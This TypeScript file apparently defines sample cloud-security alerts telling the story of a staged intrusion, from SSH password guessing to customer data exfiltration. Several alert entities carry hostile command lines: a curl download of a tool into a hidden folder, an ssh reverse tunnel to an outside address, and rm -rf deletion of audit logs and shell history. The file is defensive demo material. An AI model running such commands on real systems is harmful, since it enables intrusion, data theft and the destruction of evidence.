import { azureResource, BATCH, CUSTOMERS, DATA, ip, JUMP, localAccount, type Machine, RELEASE, SHOP, VAULT, WEB } from './estate';
import type { SampleAlert, SampleEntity } from './sample-alert';

/** From where the passwords are guessed, and from where the stolen identity is used. */
const GUESSER = ip('203.0.113.45');
const STAGING = ip('198.51.100.23');

const OPERATOR = localAccount('deploy', JUMP);
const TOOL_HASH: SampleEntity = {
  Type: 'filehash',
  Algorithm: 'SHA256',
  Value: '9f2c1b7de4a05836c7f1902e5d8b43a6e01f7c9254bd8ae36f0c15d97b248e63',
};
const toolOn = ({ host }: Machine): SampleEntity => ({
  Type: 'file',
  Directory: '/var/tmp/.cache',
  Name: 'kthreadx',
  Host: host,
  FileHashes: [TOOL_HASH],
});
const run = ({ host }: Machine, processId: string, commandLine: string, account: SampleEntity, image?: SampleEntity): SampleEntity => ({
  Type: 'process',
  ProcessId: processId,
  CommandLine: commandLine,
  Host: host,
  Account: account,
  ...(image && { ImageFile: image }),
});

const TOOL_ON_JUMP = toolOn(JUMP);
const TOOL_ON_WEB = toolOn(WEB);
const WEB_ACCOUNT = localAccount('deploy', WEB);

/**
 * An intrusion from the first knock to the theft: a guessed password on the jump host, a stolen release identity, a second machine, the key vault, then with that
 * identity into the other subscription, where customers' data is copied out and the traces are covered.
 */
export const ATTACK: SampleAlert[] = [
  ...[214, 209, 203, 198].map(
    (minutesAgo): SampleAlert => ({
      minutesAgo,
      type: 'VM_SshBruteForceFailed',
      plan: 'Servers',
      severity: 'Medium',
      intent: 'Probing',
      on: JUMP.id,
      title: 'SSH passwords are being guessed',
      description: 'One address tries user names and passwords on jump-01 in quick succession. None has worked so far.',
      entities: [JUMP.host, GUESSER],
      properties: { 'Failed attempts': '260', 'Action Taken': 'Detected' },
    }),
  ),
  {
    minutesAgo: 191,
    type: 'VM_SshBruteForceSuccess',
    plan: 'Servers',
    severity: 'High',
    intent: 'Exploitation',
    on: JUMP.id,
    title: 'A guessed SSH password has worked',
    description: 'After hundreds of failures the account deploy has logged in to jump-01 from the same address.',
    entities: [JUMP.host, OPERATOR, GUESSER],
    properties: { 'Failed attempts': '1043', 'Successful logins': '1' },
  },
  {
    minutesAgo: 184,
    type: 'VM_SuspectDownload',
    plan: 'Servers',
    severity: 'Medium',
    intent: 'Execution',
    on: JUMP.id,
    title: 'A program was fetched into a hidden folder',
    description: 'The account deploy downloads a file into a hidden folder of temporary files on jump-01 and makes it executable.',
    entities: [
      JUMP.host,
      run(JUMP, '0x2c41', 'curl -fsS http://198.51.100.23/k -o /var/tmp/.cache/kthreadx', OPERATOR),
      TOOL_ON_JUMP,
      STAGING,
    ],
  },
  {
    minutesAgo: 171,
    type: 'VM_KnownLinuxCredentialAccessTool',
    plan: 'Servers',
    severity: 'Medium',
    intent: 'CredentialAccess',
    on: JUMP.id,
    title: 'A tool which collects credentials is running',
    description: 'A process on jump-01 reads key files and the memory of other processes, as tools that steal credentials do.',
    entities: [JUMP.host, run(JUMP, '0x2c9f', './kthreadx --keys --imds', OPERATOR, TOOL_ON_JUMP)],
  },
  {
    minutesAgo: 163,
    type: 'VM_SuspectPortForwarding',
    plan: 'Servers',
    severity: 'Medium',
    intent: 'LateralMovement',
    on: WEB.id,
    title: 'A tunnel to another machine was opened',
    description: 'A login from jump-01 opens a tunnel through web-01 to an address outside.',
    entities: [WEB.host, WEB_ACCOUNT, JUMP.host, STAGING, run(WEB, '0x1177', 'ssh -fN -R 8443:localhost:443 k@198.51.100.23', WEB_ACCOUNT)],
  },
  {
    minutesAgo: 155,
    type: 'VM_FilelessAttackToolkit.Linux',
    plan: 'Servers',
    severity: 'High',
    intent: 'DefenseEvasion, Execution',
    on: WEB.id,
    title: 'An attack toolkit runs in memory',
    description: 'The memory of a process on web-01 holds code of an attack toolkit which is not in any file of the machine.',
    entities: [WEB.host, run(WEB, '0x11b2', '[kworker/u8:3]', WEB_ACCOUNT, TOOL_ON_WEB), TOOL_HASH],
  },
  ...[139, 137].map(
    (minutesAgo): SampleAlert => ({
      minutesAgo,
      type: 'KV_ListGetAnomaly',
      plan: 'KeyVaults',
      severity: 'Medium',
      intent: 'CredentialAccess',
      on: VAULT,
      title: 'All secrets of a vault were listed and read',
      description: 'shop-release lists the secrets of shop-keys and reads one after the other, which it has never done before.',
      entities: [azureResource(VAULT), RELEASE, STAGING],
    }),
  ),
  {
    minutesAgo: 118,
    type: 'ARM_AnomalousRBACRoleAssignment',
    plan: 'Arm',
    severity: 'High',
    intent: 'LateralMovement, DefenseEvasion',
    on: `/subscriptions/${DATA}`,
    title: 'An identity has given itself more rights',
    description: 'shop-release makes itself owner of the blobs in a subscription in which it has only read so far.',
    entities: [RELEASE, STAGING, azureResource(CUSTOMERS)],
  },
  {
    minutesAgo: 104,
    type: 'ARM_MicroBurst.AZStorageKeysREST',
    plan: 'Arm',
    severity: 'High',
    intent: 'Collection',
    on: CUSTOMERS,
    title: 'An exploitation toolkit has read storage keys',
    description: 'The keys of shopcustomers are read in the way that a known toolkit reads them.',
    entities: [azureResource(CUSTOMERS), RELEASE, STAGING],
  },
  {
    minutesAgo: 88,
    type: 'Storage.Blob_DataExplorationAnomaly',
    plan: 'Storage',
    severity: 'Medium',
    intent: 'Execution',
    on: CUSTOMERS,
    title: 'Containers are enumerated in an unusual way',
    description: 'An address which has never been seen here lists every container and blob of shopcustomers.',
    entities: [azureResource(CUSTOMERS), STAGING],
  },
  ...[61, 52, 44].map(
    (minutesAgo): SampleAlert => ({
      minutesAgo,
      type: 'Storage.Blob_DataExfiltration.AmountOfDataAnomaly',
      plan: 'Storage',
      severity: 'High',
      intent: 'Exfiltration',
      on: CUSTOMERS,
      title: 'An unusual amount of data was read',
      description: 'Far more data than on any day before leaves shopcustomers for one address.',
      entities: [azureResource(CUSTOMERS), STAGING],
      properties: { 'Extracted data': '38 GB' },
    }),
  ),
  {
    minutesAgo: 31,
    type: 'VM_SystemLogRemoval',
    plan: 'Servers',
    severity: 'Medium',
    intent: 'DefenseEvasion',
    on: BATCH.id,
    title: 'System logs were deleted',
    description: 'A command which shop-release ran on batch-03 deletes the logs of the machine.',
    entities: [BATCH.host, RELEASE, run(BATCH, '0x0a35', 'rm -rf /var/log/audit /var/log/auth.log', localAccount('root', BATCH))],
  },
  {
    minutesAgo: 14,
    type: 'VM_SystemLogRemoval',
    plan: 'Servers',
    severity: 'Medium',
    intent: 'DefenseEvasion',
    on: JUMP.id,
    title: 'System logs were deleted',
    description: 'The account deploy deletes the logs and the command history of jump-01.',
    entities: [JUMP.host, OPERATOR, run(JUMP, '0x31d0', 'rm -rf /var/log/auth.log ~/.bash_history', OPERATOR)],
  },
];

/** Where the attack shows. */
export const ATTACKED_SUBSCRIPTIONS = [SHOP, DATA];
